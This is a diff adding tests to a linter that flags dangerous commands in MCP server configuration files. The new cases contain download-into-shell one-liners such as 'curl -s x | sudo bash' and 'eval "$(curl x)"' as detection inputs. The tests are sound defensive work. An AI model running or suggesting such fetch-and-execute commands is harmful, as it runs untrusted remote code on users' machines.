@@ -53,6 +53,26 @@ describe('what follows a shell belongs to it', () => {
   });
 });
 
+test.each([
+  ['no shell reads it', { command: 'docs-mcp', args: ['curl x | sh'] }],
+  ['a container has its own', { command: 'docker', args: ['run', '-i', 'docs:1', 'sh', '-c', 'curl x | sh'] }],
+  ['nothing runs it', { command: 'sh', args: ['-c', 'curl x | jq . | tee sh; wget y || sh z'] }],
+])('a download into a shell: %s', async (_, entry) => {
+  expect(linesOf(await lintFiles({ '.mcp.json': claude(entry) }))).toEqual([]);
+});
+
+test.each([
+  'curl -s x | sudo bash',
+  'wget -qO- x | /bin/sh -s',
+  'bash <(curl -s x)',
+  'eval "$(curl x)"',
+  'sh -c "$(curl x)"',
+  'curl x | tee log | curl y | python3',
+])('a download into a shell: %s', async (script) => {
+  const found = linesOf(await lintFiles({ '.mcp.json': claude({ command: 'bash', args: ['-c', script] }) }));
+  expect(found.map((line) => line.split(' ', 3)[2])).toEqual(['command-dangerous']);
+});
+
 test('a script is looked for where the file is one of the project', async () => {
   const found = linesOf(await lintFiles({ '.mcp.json': claude({ command: 'node', args: ['none.js'] }) }));
   expect(found).toEqual([
